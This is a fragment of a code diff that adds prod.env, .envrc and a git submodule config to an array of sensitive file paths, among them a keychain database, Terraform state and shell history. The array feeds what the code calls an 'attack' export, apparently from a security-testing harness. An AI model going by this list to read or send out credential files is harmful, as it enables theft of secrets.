@@ -17,7 +17,10 @@ const paths = [
   "login.keychain-db",
   "terraform.tfstate",
   ".bash_history",
-  "secrets.yaml"
+  "secrets.yaml",
+  "prod.env",
+  ".envrc",
+  ".git/modules/a/config"
 ]
 
 export default attack(
